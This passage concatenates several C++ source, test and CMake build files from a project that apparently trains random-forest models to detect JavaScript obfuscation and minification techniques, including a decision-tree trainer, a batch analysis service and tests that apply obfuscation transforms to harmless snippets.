  // header is checked). Throws ModelError on mismatch.
  void save(std::ostream& out) const;
  void load(std::istream& in);

  // Full per-script report; returns parsed=false on parse errors.
  ScriptReport analyze(std::string_view source) const;

  const Level1Detector& level1() const { return level1_; }
  const Level2Detector& level2() const { return level2_; }
  const PipelineOptions& options() const { return options_; }

 private:
  PipelineOptions options_;
  Level1Detector level1_;
  Level2Detector level2_;
  bool trained_ = false;
};

}  // namespace jst::analysis
