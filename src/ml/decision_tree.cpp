#include "ml/decision_tree.h"

#include <algorithm>
#include <cmath>
#include <istream>
#include <ostream>

#include "ml/model_codec.h"
#include "support/error.h"

namespace jst::ml {
namespace {

double gini(std::size_t positives, std::size_t total) {
  if (total == 0) return 0.0;
  const double p = static_cast<double>(positives) / static_cast<double>(total);
  return 2.0 * p * (1.0 - p);
}

}  // namespace

void DecisionTree::fit(const Matrix& data, std::span<const std::uint8_t> labels,
                       std::span<const std::size_t> indices,
                       const TreeParams& params, Rng& rng) {
  if (data.row_count() == 0) throw ModelError("DecisionTree::fit: empty data");
  if (labels.size() != data.row_count()) {
    throw ModelError("DecisionTree::fit: label/row count mismatch");
  }
  nodes_.clear();
  depth_ = 0;
  feature_count_ = data.column_count();
  std::vector<std::size_t> working(indices.begin(), indices.end());
  if (working.empty()) throw ModelError("DecisionTree::fit: empty index set");

  SplitScratch scratch;
  scratch.sorted_slots.resize(feature_count_);
  scratch.counts.assign(data.row_count(), 0);
  scratch.bootstrap.reserve(working.size());
  for (const std::size_t row : working) {
    scratch.bootstrap.push_back(static_cast<std::uint32_t>(row));
  }
  build(data, labels, working, 0, working.size(), 1, params, rng, scratch);
}

std::int32_t DecisionTree::build(const Matrix& data,
                                 std::span<const std::uint8_t> labels,
                                 std::vector<std::size_t>& indices,
                                 std::size_t begin, std::size_t end,
                                 std::size_t depth, const TreeParams& params,
                                 Rng& rng, SplitScratch& scratch) {
  depth_ = std::max(depth_, depth);
  const std::size_t count = end - begin;
  std::size_t positives = 0;
  for (std::size_t i = begin; i < end; ++i) positives += labels[indices[i]];

  const auto make_leaf = [&]() {
    TreeNode leaf;
    leaf.value =
        count == 0 ? 0.5f
                   : static_cast<float>(static_cast<double>(positives) /
                                        static_cast<double>(count));
    nodes_.push_back(leaf);
    return static_cast<std::int32_t>(nodes_.size() - 1);
  };

  if (count < params.min_samples_split || depth >= params.max_depth ||
      positives == 0 || positives == count) {
    return make_leaf();
  }

  const double parent_impurity = gini(positives, count);
  std::size_t candidates = params.max_features;
  if (candidates == 0) {
    candidates = static_cast<std::size_t>(
        std::lround(std::sqrt(static_cast<double>(feature_count_))));
    candidates = std::max<std::size_t>(candidates, 1);
  }
  candidates = std::min(candidates, feature_count_);

  // Best split over a random feature subset.
  std::int32_t best_feature = -1;
  float best_threshold = 0.0f;
  double best_gain = 1e-12;
  std::vector<std::pair<float, std::uint8_t>> values;
  values.reserve(count);

  // The auto policy pays the presorted filter's O(N) walk only where it
  // beats re-sorting: nodes still holding at least a quarter of the
  // tree's samples (the top of the tree, where sorts are biggest).
  const std::size_t total_slots = scratch.bootstrap.size();
  const bool use_presorted =
      params.split_finder == SplitFinder::kPresorted ||
      (params.split_finder == SplitFinder::kAuto && count * 4 >= total_slots);

  const std::vector<std::size_t> feature_subset =
      rng.sample_indices(feature_count_, candidates);
  for (const std::size_t feature : feature_subset) {
    values.clear();
    if (use_presorted) {
      // Once per tree per feature: order the bootstrap slots by
      // (value, label) — exactly the pair ordering std::sort applies to
      // the gathered vector, so ties are interchangeable duplicates.
      std::vector<std::uint32_t>& slots = scratch.sorted_slots[feature];
      if (slots.empty()) {
        slots = scratch.bootstrap;
        std::sort(slots.begin(), slots.end(),
                  [&](std::uint32_t a, std::uint32_t b) {
                    const float va = data.at(a, feature);
                    const float vb = data.at(b, feature);
                    if (va != vb) return va < vb;
                    return labels[a] < labels[b];
                  });
      }
      // Filter the presorted column down to this node's rows. Bootstrap
      // sampling repeats rows, so membership is a multiplicity count, not
      // a flag; the walk consumes every count it planted (node slots are
      // a sub-multiset of the tree's), leaving `counts` all-zero again.
      for (std::size_t i = begin; i < end; ++i) {
        ++scratch.counts[indices[i]];
      }
      for (const std::uint32_t row : slots) {
        if (scratch.counts[row] > 0) {
          --scratch.counts[row];
          values.emplace_back(data.at(row, feature), labels[row]);
        }
      }
    } else {
      for (std::size_t i = begin; i < end; ++i) {
        values.emplace_back(data.at(indices[i], feature), labels[indices[i]]);
      }
      std::sort(values.begin(), values.end());
    }
    if (values.front().first == values.back().first) continue;  // constant

    std::size_t left_count = 0;
    std::size_t left_positives = 0;
    for (std::size_t i = 0; i + 1 < values.size(); ++i) {
      ++left_count;
      left_positives += values[i].second;
      if (values[i].first == values[i + 1].first) continue;
      const std::size_t right_count = count - left_count;
      if (left_count < params.min_samples_leaf ||
          right_count < params.min_samples_leaf) {
        continue;
      }
      const double weighted =
          (static_cast<double>(left_count) * gini(left_positives, left_count) +
           static_cast<double>(right_count) *
               gini(positives - left_positives, right_count)) /
          static_cast<double>(count);
      const double gain = parent_impurity - weighted;
      if (gain > best_gain) {
        best_gain = gain;
        best_feature = static_cast<std::int32_t>(feature);
        // Midpoint threshold between distinct values.
        best_threshold =
            values[i].first +
            (values[i + 1].first - values[i].first) * 0.5f;
        if (best_threshold == values[i + 1].first) {
          best_threshold = values[i].first;  // float underflow guard
        }
      }
    }
  }

  if (best_feature < 0) return make_leaf();

  // Partition indices in place.
  const auto middle_it = std::partition(
      indices.begin() + static_cast<std::ptrdiff_t>(begin),
      indices.begin() + static_cast<std::ptrdiff_t>(end),
      [&](std::size_t row) {
        return data.at(row, static_cast<std::size_t>(best_feature)) <=
               best_threshold;
      });
  const std::size_t middle =
      static_cast<std::size_t>(middle_it - indices.begin());
  if (middle == begin || middle == end) return make_leaf();

  const std::int32_t self = static_cast<std::int32_t>(nodes_.size());
  nodes_.emplace_back();
  nodes_[self].feature = best_feature;
  nodes_[self].threshold = best_threshold;
  nodes_[self].importance =
      static_cast<float>(best_gain * static_cast<double>(count));
  const std::int32_t left = build(data, labels, indices, begin, middle,
                                  depth + 1, params, rng, scratch);
  const std::int32_t right =
      build(data, labels, indices, middle, end, depth + 1, params, rng, scratch);
  nodes_[self].left = left;
  nodes_[self].right = right;
  return self;
}

double DecisionTree::predict(std::span<const float> row) const {
  if (nodes_.empty()) throw ModelError("DecisionTree::predict before fit");
  std::int32_t index = 0;
  while (nodes_[index].feature >= 0) {
    const TreeNode& node = nodes_[index];
    const float value = row[static_cast<std::size_t>(node.feature)];
    index = value <= node.threshold ? node.left : node.right;
  }
  return nodes_[index].value;
}

void DecisionTree::save(std::ostream& out) const {
  out.precision(17);  // lossless float round-trip
  out << nodes_.size() << ' ' << depth_ << ' ' << feature_count_ << '\n';
  for (const TreeNode& node : nodes_) {
    out << node.feature << ' ' << node.threshold << ' ' << node.left << ' '
        << node.right << ' ' << node.value << ' ' << node.importance << '\n';
  }
}

void DecisionTree::load(std::istream& in) {
  std::size_t count = 0;
  if (!(in >> count >> depth_ >> feature_count_)) {
    throw ModelError("DecisionTree::load: bad header");
  }
  nodes_.assign(count, TreeNode{});
  for (TreeNode& node : nodes_) {
    if (!(in >> node.feature >> node.threshold >> node.left >> node.right >>
          node.value >> node.importance)) {
      throw ModelError("DecisionTree::load: truncated node table");
    }
  }
}

void DecisionTree::save_binary(std::ostream& out) const {
  codec::write_u64(out, nodes_.size());
  codec::write_u64(out, depth_);
  codec::write_u64(out, feature_count_);
  codec::write_array<TreeNode>(out, nodes_);
}

void DecisionTree::load_binary(std::istream& in) {
  const std::uint64_t count = codec::read_u64(in, "tree node count");
  depth_ = static_cast<std::size_t>(codec::read_u64(in, "tree depth"));
  feature_count_ =
      static_cast<std::size_t>(codec::read_u64(in, "tree feature count"));
  nodes_.assign(static_cast<std::size_t>(count), TreeNode{});
  codec::read_array<TreeNode>(in, nodes_, "tree node table");
}

void DecisionTree::add_feature_importance(std::vector<double>& out) const {
  if (out.size() < feature_count_) out.resize(feature_count_, 0.0);
  for (const TreeNode& node : nodes_) {
    if (node.feature >= 0) {
      out[static_cast<std::size_t>(node.feature)] += node.importance;
    }
  }
}

}  // namespace jst::ml
