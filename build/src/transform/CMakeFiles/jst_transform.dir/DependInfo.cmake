
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/transform/dead_code.cpp" "src/transform/CMakeFiles/jst_transform.dir/dead_code.cpp.o" "gcc" "src/transform/CMakeFiles/jst_transform.dir/dead_code.cpp.o.d"
  "/root/repo/src/transform/flatten.cpp" "src/transform/CMakeFiles/jst_transform.dir/flatten.cpp.o" "gcc" "src/transform/CMakeFiles/jst_transform.dir/flatten.cpp.o.d"
  "/root/repo/src/transform/global_array.cpp" "src/transform/CMakeFiles/jst_transform.dir/global_array.cpp.o" "gcc" "src/transform/CMakeFiles/jst_transform.dir/global_array.cpp.o.d"
  "/root/repo/src/transform/identifier_obfuscation.cpp" "src/transform/CMakeFiles/jst_transform.dir/identifier_obfuscation.cpp.o" "gcc" "src/transform/CMakeFiles/jst_transform.dir/identifier_obfuscation.cpp.o.d"
  "/root/repo/src/transform/minify.cpp" "src/transform/CMakeFiles/jst_transform.dir/minify.cpp.o" "gcc" "src/transform/CMakeFiles/jst_transform.dir/minify.cpp.o.d"
  "/root/repo/src/transform/no_alnum.cpp" "src/transform/CMakeFiles/jst_transform.dir/no_alnum.cpp.o" "gcc" "src/transform/CMakeFiles/jst_transform.dir/no_alnum.cpp.o.d"
  "/root/repo/src/transform/packer.cpp" "src/transform/CMakeFiles/jst_transform.dir/packer.cpp.o" "gcc" "src/transform/CMakeFiles/jst_transform.dir/packer.cpp.o.d"
  "/root/repo/src/transform/protection.cpp" "src/transform/CMakeFiles/jst_transform.dir/protection.cpp.o" "gcc" "src/transform/CMakeFiles/jst_transform.dir/protection.cpp.o.d"
  "/root/repo/src/transform/rename.cpp" "src/transform/CMakeFiles/jst_transform.dir/rename.cpp.o" "gcc" "src/transform/CMakeFiles/jst_transform.dir/rename.cpp.o.d"
  "/root/repo/src/transform/string_obfuscation.cpp" "src/transform/CMakeFiles/jst_transform.dir/string_obfuscation.cpp.o" "gcc" "src/transform/CMakeFiles/jst_transform.dir/string_obfuscation.cpp.o.d"
  "/root/repo/src/transform/technique.cpp" "src/transform/CMakeFiles/jst_transform.dir/technique.cpp.o" "gcc" "src/transform/CMakeFiles/jst_transform.dir/technique.cpp.o.d"
  "/root/repo/src/transform/transform.cpp" "src/transform/CMakeFiles/jst_transform.dir/transform.cpp.o" "gcc" "src/transform/CMakeFiles/jst_transform.dir/transform.cpp.o.d"
  "/root/repo/src/transform/unmonitored.cpp" "src/transform/CMakeFiles/jst_transform.dir/unmonitored.cpp.o" "gcc" "src/transform/CMakeFiles/jst_transform.dir/unmonitored.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/parser/CMakeFiles/jst_parser.dir/DependInfo.cmake"
  "/root/repo/build/src/codegen/CMakeFiles/jst_codegen.dir/DependInfo.cmake"
  "/root/repo/build/src/dataflow/CMakeFiles/jst_dataflow.dir/DependInfo.cmake"
  "/root/repo/build/src/lexer/CMakeFiles/jst_lexer.dir/DependInfo.cmake"
  "/root/repo/build/src/ast/CMakeFiles/jst_ast.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/jst_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
