file(REMOVE_RECURSE
  "CMakeFiles/bench_daftlogic.dir/bench_daftlogic.cpp.o"
  "CMakeFiles/bench_daftlogic.dir/bench_daftlogic.cpp.o.d"
  "bench_daftlogic"
  "bench_daftlogic.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_daftlogic.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
