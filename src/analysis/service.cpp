#include "analysis/service.h"

#include <algorithm>
#include <cassert>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <sstream>
#include <utility>
#include <vector>

#include "analysis/result_cache.h"
#include "analysis/wire.h"
#include "obs/metrics.h"
#include "obs/request_context.h"
#include "obs/trace.h"
#include "support/error.h"
#include "support/stats.h"
#include "support/strings.h"
#include "support/thread_pool.h"

namespace jst::analysis {
namespace {

// Batch-level telemetry (DESIGN.md §9); per-script stage histograms are
// recorded inside analyze_outcome.
struct BatchMetrics {
  obs::Counter& batches =
      obs::MetricsRegistry::global().counter("jst_batches_total");
  obs::Counter& scripts =
      obs::MetricsRegistry::global().counter("jst_batch_scripts_total");
  obs::Histogram& wall_ms =
      obs::MetricsRegistry::global().histogram("jst_batch_wall_ms");
};

BatchMetrics& batch_metrics() {
  static BatchMetrics* metrics = new BatchMetrics();  // outlives statics
  return *metrics;
}

// Folds the analyzed responses into BatchStats. Only kOk responses carry
// an outcome that went through the pipeline; rejected requests
// contribute to no counter (BatchStats doc).
BatchStats aggregate_stats(std::span<const AnalyzeResponse> responses,
                           double wall_ms, std::size_t threads) {
  BatchStats stats;
  stats.threads = std::max<std::size_t>(threads, 1);
  stats.wall_ms = wall_ms;
  std::vector<double> script_ms;
  script_ms.reserve(responses.size());
  for (const AnalyzeResponse& response : responses) {
    if (!response.ok()) continue;
    const ScriptOutcome& outcome = response.outcome;
    ++stats.total;
    switch (outcome.status) {
      case ScriptStatus::kOk: ++stats.ok; break;
      case ScriptStatus::kParseError: ++stats.parse_errors; break;
      case ScriptStatus::kIneligibleSize: ++stats.ineligible_size; break;
      case ScriptStatus::kIneligibleAst: ++stats.ineligible_ast; break;
      case ScriptStatus::kBudgetTokens: ++stats.budget_tokens; break;
      case ScriptStatus::kBudgetAstNodes: ++stats.budget_ast_nodes; break;
      case ScriptStatus::kBudgetDepth: ++stats.budget_depth; break;
      case ScriptStatus::kBudgetDataflow: ++stats.budget_dataflow; break;
      case ScriptStatus::kDeadlineExceeded: ++stats.deadline_exceeded; break;
      case ScriptStatus::kDegraded: ++stats.degraded; break;
    }
    stats.static_analysis_ms += outcome.timing.static_analysis_ms;
    stats.features_ms += outcome.timing.features_ms;
    stats.inference_ms += outcome.timing.inference_ms;
    stats.total_script_ms += outcome.timing.total_ms;
    script_ms.push_back(outcome.timing.total_ms);
  }
  stats.p50_script_ms = stats::percentile(script_ms, 50.0);
  stats.p95_script_ms = stats::percentile(script_ms, 95.0);
  stats.p99_script_ms = stats::percentile(script_ms, 99.0);
  stats.max_script_ms = stats::max(script_ms);
  if (stats.wall_ms > 0.0) {
    stats.scripts_per_second =
        1000.0 * static_cast<double>(stats.total) / stats.wall_ms;
  }
  // Stage accounting invariant (see BatchStats): the stages partition each
  // script's total up to the clock reads between stage boundaries. Allow
  // 50 µs of residue per script plus 5% slack before declaring drift.
  assert(stats.stage_ms_sum() <=
             stats.total_script_ms + 1e-6 * static_cast<double>(stats.total) &&
         stats.total_script_ms - stats.stage_ms_sum() <=
             0.05 * stats.total_script_ms +
                 0.05 * static_cast<double>(stats.total));
  return stats;
}

}  // namespace

std::string_view to_string(OutputDetail detail) {
  switch (detail) {
    case OutputDetail::kStatus: return "status";
    case OutputDetail::kSummary: return "summary";
    case OutputDetail::kFull: return "full";
  }
  return "full";
}

std::string_view to_string(ResponseStatus status) {
  switch (status) {
    case ResponseStatus::kOk: return "ok";
    case ResponseStatus::kInvalidRequest: return "invalid_request";
    case ResponseStatus::kNotFound: return "not_found";
    case ResponseStatus::kOverloaded: return "overloaded";
    case ResponseStatus::kDraining: return "draining";
  }
  return "invalid_request";
}

std::string_view to_string(CacheState state) {
  switch (state) {
    case CacheState::kNone: return "none";
    case CacheState::kHit: return "hit";
    case CacheState::kMiss: return "miss";
    case CacheState::kBypass: return "bypass";
    case CacheState::kStale: return "stale";
  }
  return "none";
}

std::string content_hash(std::string_view source) {
  char hex[17];
  std::snprintf(hex, sizeof(hex), "%016llx",
                static_cast<unsigned long long>(strings::fnv1a(source)));
  return std::string(hex, 16);
}

AnalyzeRequest AnalyzeRequest::for_source(std::string source, std::string id) {
  AnalyzeRequest request;
  request.id = std::move(id);
  request.source = std::move(source);
  request.has_source = true;
  return request;
}

AnalyzeRequest AnalyzeRequest::for_hash(std::string source_hash,
                                        std::string id) {
  AnalyzeRequest request;
  request.id = std::move(id);
  request.source_hash = std::move(source_hash);
  return request;
}

std::vector<AnalyzeRequest> make_source_requests(
    std::span<const std::string> sources, CacheMode cache_mode) {
  std::vector<AnalyzeRequest> requests;
  requests.reserve(sources.size());
  for (const std::string& source : sources) {
    AnalyzeRequest request = AnalyzeRequest::for_source(source);
    request.cache_mode = cache_mode;
    requests.push_back(std::move(request));
  }
  return requests;
}

std::string AnalyzeResponse::to_json() const {
  return wire::analyze_response_json(*this);
}

std::string BatchStats::to_json() const {
  return wire::batch_stats_json(*this);
}

AnalyzerService::AnalyzerService(const TransformationAnalyzer& analyzer,
                                 ResultCache* cache)
    : analyzer_(&analyzer) {
  if (!analyzer.trained()) {
    throw ModelError("AnalyzerService: analyzer is not trained");
  }
  set_cache(cache);
}

void AnalyzerService::set_cache(ResultCache* cache) {
  cache_ = cache;
  if (cache_ != nullptr && model_fingerprint_.empty()) {
    // One serialization pass pins the model_version cache-key component:
    // any retrain or options change alters the stream and so the key.
    std::ostringstream serialized;
    analyzer_->save(serialized);
    model_fingerprint_ = content_hash(serialized.str());
  }
}

AnalyzeResponse AnalyzerService::analyze_with_scratch(
    const AnalyzeRequest& request, const ResourceLimits& default_limits,
    ScriptScratch& scratch) const {
  // Install the request's trace-correlation id for everything below —
  // validation included, so even a rejection's spans are attributable.
  obs::RequestScope request_scope(request.request_id);
  AnalyzeResponse response;
  response.id = request.id;
  response.request_id = request.request_id;
  response.detail = request.detail;
  if (!request.has_source) {
    if (request.source_hash.empty()) {
      response.status = ResponseStatus::kInvalidRequest;
      response.error = "request carries neither source nor source_hash";
    } else {
      // Resolution needs a registry of previously seen sources; that
      // lives in the daemon (server/server.h), which substitutes the
      // resolved source before calling the service.
      response.status = ResponseStatus::kNotFound;
      response.source_hash = request.source_hash;
      response.error =
          "source_hash reference requires a resolver; submit the source "
          "inline first";
    }
    return response;
  }
  response.source_hash = content_hash(request.source);
  if (!request.source_hash.empty() &&
      request.source_hash != response.source_hash) {
    response.status = ResponseStatus::kInvalidRequest;
    response.error = "source_hash does not match the inline source (" +
                     request.source_hash + " vs " + response.source_hash + ")";
    return response;
  }
  const ResourceLimits& limits =
      request.limits.has_value() ? *request.limits : default_limits;

  // Cache consult (DESIGN.md §15). The key covers everything the outcome
  // is a function of — content, model, limits, wire schema — so a hit is
  // bit-identical to recomputation and the pipeline is skipped outright.
  std::string cache_key;
  bool store_after_analysis = false;
  if (cache_ != nullptr) {
    const auto lookup_started = std::chrono::steady_clock::now();
    const auto lookup_ms = [&] {
      return std::chrono::duration<double, std::milli>(
                 std::chrono::steady_clock::now() - lookup_started)
          .count();
    };
    switch (request.cache_mode) {
      case CacheMode::kBypass:
        cache_->note_bypass();
        response.cache = CacheState::kBypass;
        break;
      case CacheMode::kRefresh:
        cache_key = ResultCache::make_key(response.source_hash,
                                          model_fingerprint_, limits);
        response.cache =
            cache_->contains(cache_key) ? CacheState::kStale
                                        : CacheState::kMiss;
        response.cache_lookup_ms = lookup_ms();
        store_after_analysis = true;
        break;
      case CacheMode::kDefault: {
        cache_key = ResultCache::make_key(response.source_hash,
                                          model_fingerprint_, limits);
        std::optional<ScriptOutcome> cached = cache_->lookup(cache_key);
        response.cache_lookup_ms = lookup_ms();
        if (cached.has_value()) {
          // The cached outcome carries the original analysis timings;
          // the actual serving cost of this hit is the lookup alone.
          response.outcome = *std::move(cached);
          response.status = ResponseStatus::kOk;
          response.cache = CacheState::kHit;
          response.service_ms = response.cache_lookup_ms;
          return response;
        }
        response.cache = CacheState::kMiss;
        store_after_analysis = true;
        break;
      }
    }
  }

  response.outcome = analyzer_->analyze_outcome(request.source, limits,
                                                scratch);
  response.status = ResponseStatus::kOk;
  response.service_ms = response.outcome.timing.total_ms;
  if (store_after_analysis) {
    // store() drops uncacheable (degraded / budget-tripped) outcomes.
    cache_->store(cache_key, response.outcome);
  }
  return response;
}

AnalyzeResponse AnalyzerService::analyze(
    const AnalyzeRequest& request, const ResourceLimits& default_limits) const {
  // Per-thread scratch, shared with every other single-request call this
  // thread makes (same reuse discipline as the batch workers).
  static thread_local ScriptScratch scratch;
  return analyze_with_scratch(request, default_limits, scratch);
}

BatchResponse AnalyzerService::analyze_batch(
    std::span<const AnalyzeRequest> requests,
    const BatchOptions& options) const {
  BatchResponse result;
  result.responses.resize(requests.size());
  const std::size_t threads = support::resolve_threads(options.threads);

  JST_SPAN("batch");
  const auto start = std::chrono::steady_clock::now();
  support::run_parallel(threads, requests.size(), [&](std::size_t i) {
    // One scratch per worker thread, reused for every script the worker
    // analyzes (in this batch and all later ones): feature extraction and
    // inference run allocation-free once the buffers have warmed up.
    static thread_local ScriptScratch scratch;
    result.responses[i] =
        analyze_with_scratch(requests[i], options.limits, scratch);
  });
  const double wall_ms = std::chrono::duration<double, std::milli>(
                             std::chrono::steady_clock::now() - start)
                             .count();
  result.stats = aggregate_stats(result.responses, wall_ms, threads);

  BatchMetrics& metrics = batch_metrics();
  metrics.batches.add(1);
  metrics.scripts.add(result.stats.total);
  metrics.wall_ms.record(result.stats.wall_ms);
  return result;
}

}  // namespace jst::analysis
