file(REMOVE_RECURSE
  "CMakeFiles/jst_lexer.dir/lexer.cpp.o"
  "CMakeFiles/jst_lexer.dir/lexer.cpp.o.d"
  "CMakeFiles/jst_lexer.dir/token.cpp.o"
  "CMakeFiles/jst_lexer.dir/token.cpp.o.d"
  "libjst_lexer.a"
  "libjst_lexer.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/jst_lexer.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
