// Extension-surface tests: Esprima-style JSON serialization, the
// unmonitored transformation techniques (§II-C's generalization claim),
// and trained-model serialization.
#include <gtest/gtest.h>

#include <sstream>

#include "analysis/pipeline.h"
#include "ast/ast_json.h"
#include "interp/interpreter.h"
#include "ml/random_forest.h"
#include "parser/parser.h"
#include "transform/transform.h"

namespace jst {
namespace {

// --- AST JSON -----------------------------------------------------------

TEST(AstJson, SimpleProgramShape) {
  const ParseResult parsed = parse_program("var a = 1;");
  const std::string json = ast_to_json(parsed.ast.root());
  EXPECT_NE(json.find("\"type\":\"Program\""), std::string::npos);
  EXPECT_NE(json.find("\"type\":\"VariableDeclaration\""), std::string::npos);
  EXPECT_NE(json.find("\"kind\":\"var\""), std::string::npos);
  EXPECT_NE(json.find("\"name\":\"a\""), std::string::npos);
  EXPECT_NE(json.find("\"value\":1"), std::string::npos);
}

TEST(AstJson, OperatorsAndFlags) {
  const ParseResult parsed = parse_program("x = a + b; o.p; o['q']; i++;");
  const std::string json = ast_to_json(parsed.ast.root());
  EXPECT_NE(json.find("\"operator\":\"+\""), std::string::npos);
  EXPECT_NE(json.find("\"computed\":false"), std::string::npos);
  EXPECT_NE(json.find("\"computed\":true"), std::string::npos);
  EXPECT_NE(json.find("\"prefix\":false"), std::string::npos);
}

TEST(AstJson, NullSlotsSerializeAsNull) {
  const ParseResult parsed = parse_program("if (a) b();");
  const std::string json = ast_to_json(parsed.ast.root());
  EXPECT_NE(json.find("\"alternate\":null"), std::string::npos);
}

TEST(AstJson, FunctionsCarryParams) {
  const ParseResult parsed = parse_program("function f(a, b) { return a; }");
  const std::string json = ast_to_json(parsed.ast.root());
  EXPECT_NE(json.find("\"params\":[{"), std::string::npos);
  EXPECT_NE(json.find("\"async\":false"), std::string::npos);
}

TEST(AstJson, PrettyModeIndents) {
  const ParseResult parsed = parse_program("var a = [1, 2];");
  const std::string pretty = ast_to_json(parsed.ast.root(), /*pretty=*/true);
  EXPECT_NE(pretty.find('\n'), std::string::npos);
  EXPECT_NE(pretty.find("  \"type\""), std::string::npos);
}

TEST(AstJson, EscapesStringContent) {
  const ParseResult parsed = parse_program(R"(var s = "a\"b";)");
  const std::string json = ast_to_json(parsed.ast.root());
  EXPECT_NE(json.find("a\\\"b"), std::string::npos);
}

// --- unmonitored techniques ----------------------------------------------

TEST(Unmonitored, FieldReferenceRewritesDots) {
  Rng rng(1);
  const std::string out = transform::obfuscate_field_references(
      "console.log(obj.first.second);", rng, 1.0);
  EXPECT_TRUE(parses(out));
  EXPECT_EQ(out.find(".first"), std::string::npos);
  EXPECT_NE(out.find("[\"first\"]"), std::string::npos);
  EXPECT_NE(out.find("[\"second\"]"), std::string::npos);
  // console.log itself is a member access too.
  EXPECT_NE(out.find("[\"log\"]"), std::string::npos);
}

TEST(Unmonitored, FieldReferencePreservesSemantics) {
  const char* fixture = R"JS(
    var account = { owner: { name: "ada" }, balance: 42 };
    console.log(account.owner.name + ":" + account.balance);
  )JS";
  const auto original = interp::run_program_source(fixture);
  ASSERT_TRUE(original.ok);
  Rng rng(2);
  const std::string out =
      transform::obfuscate_field_references(fixture, rng, 1.0);
  const auto after = interp::run_program_source(out);
  ASSERT_TRUE(after.ok) << after.error;
  EXPECT_EQ(original.log, after.log);
}

TEST(Unmonitored, IntegerObfuscationHidesLiterals) {
  Rng rng(3);
  const std::string out =
      transform::obfuscate_integers("var port = 8080; var max = 255;", rng, 1.0);
  EXPECT_TRUE(parses(out));
  EXPECT_EQ(out.find("8080"), std::string::npos);
}

TEST(Unmonitored, IntegerObfuscationPreservesSemantics) {
  const char* fixture = R"JS(
    var total = 0;
    for (var i = 0; i < 10; i++) { total += 7; }
    console.log(total * 3 - 10);
  )JS";
  const auto original = interp::run_program_source(fixture);
  ASSERT_TRUE(original.ok);
  for (std::uint64_t seed = 1; seed <= 8; ++seed) {
    Rng rng(seed);
    const std::string out = transform::obfuscate_integers(fixture, rng, 1.0);
    const auto after = interp::run_program_source(out);
    ASSERT_TRUE(after.ok) << after.error << "\n" << out;
    EXPECT_EQ(original.log, after.log) << out;
  }
}

TEST(Unmonitored, PropertyKeysNotRewritten) {
  Rng rng(4);
  const std::string out =
      transform::obfuscate_integers("var o = { 3: 'x' }; use(o[3]);", rng, 1.0);
  EXPECT_TRUE(parses(out));
  EXPECT_NE(out.find("3: "), std::string::npos);  // key literal intact
}

// --- model serialization ---------------------------------------------------

TEST(Serialization, ForestRoundTrip) {
  Rng rng(5);
  std::vector<std::vector<float>> rows;
  std::vector<std::uint8_t> labels;
  for (int i = 0; i < 300; ++i) {
    const float a = static_cast<float>(rng.uniform());
    const float b = static_cast<float>(rng.uniform());
    rows.push_back({a, b});
    labels.push_back(a + b > 1.0f ? 1 : 0);
  }
  ml::RandomForest forest;
  ml::ForestParams params;
  params.tree_count = 8;
  forest.fit(ml::Matrix{&rows}, labels, params, rng);

  std::stringstream buffer;
  forest.save(buffer);
  ml::RandomForest restored;
  restored.load(buffer);

  for (int i = 0; i < 50; ++i) {
    std::vector<float> probe = {static_cast<float>(rng.uniform()),
                                static_cast<float>(rng.uniform())};
    EXPECT_DOUBLE_EQ(forest.predict_proba(probe),
                     restored.predict_proba(probe));
  }
}

TEST(Serialization, ForestRejectsGarbage) {
  ml::RandomForest forest;
  std::stringstream buffer("not-a-forest 3");
  EXPECT_THROW(forest.load(buffer), ModelError);
}

TEST(Serialization, AnalyzerRoundTrip) {
  analysis::PipelineOptions options;
  options.training_regular_count = 24;
  options.per_technique_count = 5;
  options.detector.forest.tree_count = 8;
  options.detector.features.ngram.hash_dim = 128;
  analysis::TransformationAnalyzer analyzer(options);
  analyzer.train();

  std::stringstream buffer;
  analyzer.save(buffer);

  analysis::TransformationAnalyzer restored(options);
  EXPECT_FALSE(restored.trained());
  restored.load(buffer);
  EXPECT_TRUE(restored.trained());

  // Identical reports on a probe script.
  analysis::CorpusSpec spec;
  spec.regular_count = 1;
  spec.seed = 777;
  const std::string probe = analysis::generate_regular_corpus(spec)[0];
  const auto a = analyzer.analyze(probe);
  const auto b = restored.analyze(probe);
  EXPECT_EQ(a.level1.p_regular, b.level1.p_regular);
  EXPECT_EQ(a.level1.p_minified, b.level1.p_minified);
  EXPECT_EQ(a.technique_confidence, b.technique_confidence);
}

TEST(Serialization, AnalyzerRejectsDimensionMismatch) {
  analysis::PipelineOptions options;
  options.training_regular_count = 12;
  options.per_technique_count = 3;
  options.detector.forest.tree_count = 4;
  options.detector.features.ngram.hash_dim = 64;
  analysis::TransformationAnalyzer analyzer(options);
  analyzer.train();
  std::stringstream buffer;
  analyzer.save(buffer);

  options.detector.features.ngram.hash_dim = 128;  // different space
  analysis::TransformationAnalyzer other(options);
  EXPECT_THROW(other.load(buffer), ModelError);
}

TEST(Serialization, SaveBeforeTrainThrows) {
  analysis::TransformationAnalyzer analyzer;
  std::stringstream buffer;
  EXPECT_THROW(analyzer.save(buffer), ModelError);
}

}  // namespace
}  // namespace jst
