// Scalar / SWAR / SIMD implementations of the block scanners.
//
// Layout: one scalar reference implementation per scanner (the oracle),
// one SWAR implementation processing 8 bytes per step, and one 16-byte
// SIMD implementation compiled only where the ISA exists (SSE2 on
// x86-64, NEON on AArch64). The public find_* entry points dispatch
// through the process-global policy: one relaxed atomic load and a
// perfectly-predicted switch per run, amortized over the whole run.
#include "lexer/scan.h"

#include <atomic>
#include <cstdlib>
#include <cstring>

#include "lexer/char_class.h"
#include "support/cpu.h"
#include "support/swar.h"

#if JST_HAVE_SSE2
#include <emmintrin.h>
#elif JST_HAVE_NEON
#include <arm_neon.h>
#endif

namespace jst::lex {
namespace {

using support::swar::broadcast;
